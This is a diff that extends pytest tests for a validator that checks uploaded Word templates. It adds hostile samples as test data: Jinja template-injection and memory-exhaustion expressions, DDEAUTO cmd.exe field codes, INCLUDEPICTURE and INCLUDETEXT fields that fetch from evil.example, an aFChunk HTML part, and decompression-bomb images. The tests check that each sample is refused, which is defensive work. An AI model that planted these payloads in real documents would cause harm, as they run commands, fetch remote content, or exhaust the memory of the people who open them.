@@ -1,15 +1,27 @@
 """A template that somebody sent is looked through: it shows, repeats and asks, and does no more."""
 
+import io
 import re
+import struct
+import zlib
 from pathlib import Path
 
 import pytest
 from docx import Document
 
-from tests.workflows.documents.words import changed, saved, text_of, with_part, written
+from tests.workflows.documents.words import changed, part_of, saved, text_of, with_part, written
 from webapp import words
 from webapp.words import documents as document_words
-from workflows.documents import checking, content, filling, packages, printing, shipped
+from workflows.documents import (
+    checking,
+    content,
+    expressions,
+    filling,
+    packages,
+    pictures,
+    printing,
+    shipped,
+)
 from workflows.documents.checking import check_template
 from workflows.documents.kinds import KINDS, missing_in
 from workflows.documents.saying import short_name
@@ -77,8 +89,12 @@ def test_an_unknown_field_is_named_with_its_place():
         "{{ programme.title|center(1000000000) }}",
         "{{ programme.title|attr('__class__') }}",
         "{{ lipsum(100) }}",
+        f"{{{{ '{'x' * 400}'|join('{'y' * 400}')|join('{'z' * 400}')|join('{'w' * 400}') }}}}",
+        "{{ programme.title|join(programme.title)|join(programme.title) }}",
+        "{{ pairs|join('long long long long long') }}",
         "{{ self }}",
         "{% for one in range(100000000) %}{% endfor %}",
+        "{% for a in pairs %}{% for b in a.steps %}{% for c in a.steps %}{%endfor%}{%endfor%}{%endfor%}",
         "{% for one in pairs recursive %}{{ loop(pairs) }}{% endfor %}",
         "{% for one in pairs %}{% for two in pairs %}x{% endfor %}{% endfor %}",
         "{% set x = 1 %}",
@@ -101,6 +117,14 @@ def test_a_group_or_a_list_is_not_shown_as_a_computer_writes_it():
 
 def test_a_field_that_does_not_end_is_named():
     assert faults("О программе {{ programme.title", "}} дальше")[0][0] == "template_expression_unfinished"
+
+
+@pytest.mark.parametrize(
+    "endless",
+    ["(" * 3000 + "is_minor" + ")" * 3000, "not " * 3000 + "is_minor", "is_minor" + "|upper" * 3000],
+)
+def test_a_field_that_is_nested_without_end_is_refused(endless):
+    assert [key for key, _name in faults(f"{{{{ {endless} }}}}")] == ["template_expression_unreadable"]
 
 
 def test_fields_where_nobody_sees_them_are_refused():
@@ -151,9 +175,112 @@ def test_what_loads_from_elsewhere_is_refused_and_a_link_is_not():
         assert [(one.key, one.name) for one in found] == [("template_loads_from_elsewhere", target)]
 
 
+def field(*instructions):
+    """Write a field into a document, its instruction in several runs."""
+    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    said = "".join(
+        one if one[0] == "<" else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions
+    )
+    return f"{char.format('begin')}{said}{char.format('separate')}{char.format('end')}"
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        field("DDEAUTO cmd.exe &quot;/k calc&quot;"),
+        field("INCLUDE", "PICTURE &quot;https://evil.example/a.png&quot;"),
+        field("ddeauto x y"),
+        field(field("QUOTE 68 68 69"), " cmd.exe x"),
+        field(field("PAGE"), "DDE cmd.exe x"),
+        field("PAGE") + field("IMPORT c:/a.txt"),
+        field("HYPERLINK &quot;file:///c:/a.exe&quot;"),
+        '<w:fldSimple w:instr="INCLUDETEXT &quot;//evil.example/a.docx&quot;"/>',
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LINK a b</w:instrText></w:r>',
+    ],
+)
+def test_a_field_of_word_that_fetches_or_starts_something_is_refused(inside):
+    sent = changed(written("Текст"), "word/document.xml", "<w:sectPr", f"<w:p>{inside}</w:p><w:sectPr")
+    assert "template_loads_from_elsewhere" in [one.key for one in check_template(sent, SHAPE)]
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        field("PAGE \\* MERGEFORMAT"),
+        field(" ", "NUM", "PAGES "),
+        field("HYPERLINK \\l &quot;_Toc1&quot;"),
+        field("HYPERLINK &quot;https://school.example&quot;"),
+        '<w:fldSimple w:instr=" DATE "/>',
+    ],
+)
+def test_a_field_of_word_that_counts_or_dates_is_taken(inside):
+    sent = changed(written("Текст"), "word/document.xml", "<w:sectPr", f"<w:p>{inside}</w:p><w:sectPr")
+    assert check_template(sent, SHAPE) == []
+
+
+def test_a_part_that_hides_what_it_is_behind_its_ending_is_refused():
+    """The library finds the text by the relations, not by the name that we have looked at."""
+    hidden = changed(written("Текст"), "_rels/.rels", "word/document.xml", "word/text.dat")
+    hidden = changed(hidden, "[Content_Types].xml", "/word/document.xml", "/word/text.dat")
+    text = changed(
+        written("Текст"), "word/document.xml", "<w:sectPr", f"<w:p>{field('DDE x')}</w:p><w:sectPr"
+    )
+    hidden = with_part(hidden, "word/text.dat", part_of(text, "word/document.xml"))
+    hidden = with_part(hidden, "word/_rels/text.dat.rels", part_of(hidden, "word/_rels/document.xml.rels"))
+    assert [one.key for one in check_template(hidden, SHAPE)] == ["template_is_no_docx"]
+
+
+def test_a_piece_of_another_kind_that_word_would_open_along_is_refused():
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
+    added = f'<Relationship Id="rX" Type="{kind}" Target="chunk.html"/></Relationships>'
+    sent = changed(written("Текст"), "word/_rels/document.xml.rels", "</Relationships>", added)
+    found = check_template(with_part(sent, "word/chunk.html", b"<img src='//evil.example'>"), SHAPE)
+    assert [(one.key, one.name) for one in found] == [("template_loads_from_elsewhere", "chunk.html")]
+
+
 @pytest.mark.parametrize("sent", [b"", b"%PDF-1.7", b"PK\x03\x04 broken", written("x")[:300]])
 def test_what_is_no_word_document_is_refused(sent):
     assert check_template(sent, SHAPE)
+
+
+def png(side):
+    """Draw a black square, which packs well."""
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
+    rows = zlib.compress(bytes((side + 1) * side), 9)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
+
+
+def test_pictures_that_fill_the_memory_once_they_are_unpacked_are_refused():
+    """The printer would end with the whole house, and nothing could catch that."""
+
+    def with_pictures(*sides):
+        document = Document()
+        for side in sides:
+            document.add_picture(io.BytesIO(png(side)), width=914400)
+        return saved(document)
+
+    assert check_template(with_pictures(3000, 2000), SHAPE) == []
+    for sides in ((5000,), (3000, 2900)):
+        found = check_template(with_pictures(*sides), SHAPE)
+        assert [one.key for one in found] == ["template_pictures_too_large"]
+
+
+@pytest.mark.parametrize(
+    ("picture", "is_too_large"),
+    [
+        (b"\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x09\x08\x0f\0\x08\0ab\xff\xda", False),
+        (b"\xff\xd8\xff\xc2\0\x0b\x08\xff\xff\xff\xffabcd\xff\xda", True),
+        (b"\xff\xd8\xff\xe0\0", True),
+        (b"GIF89a", True),
+        (b"", True),
+    ],
+)
+def test_the_size_of_a_picture_is_read_and_never_guessed(picture, is_too_large):
+    assert pictures.are_too_large([picture]) is is_too_large
 
 
 def test_a_document_with_macros_is_refused_by_what_it_is_and_not_by_its_name():
@@ -215,7 +342,7 @@ def test_initials_are_written_only_where_the_patronymic_tells_the_family_name(na
 
 def test_every_fault_has_words():
     keys = set()
-    for module in (packages, checking, document_templates):
+    for module in (packages, checking, expressions, document_templates):
         keys |= set(re.findall(r'Fault\(\s*"([a-z_]+)"', Path(module.__file__).read_text("utf-8")))
     assert len(keys) > 10
     assert [key for key in keys if not words.knows(key)] == []
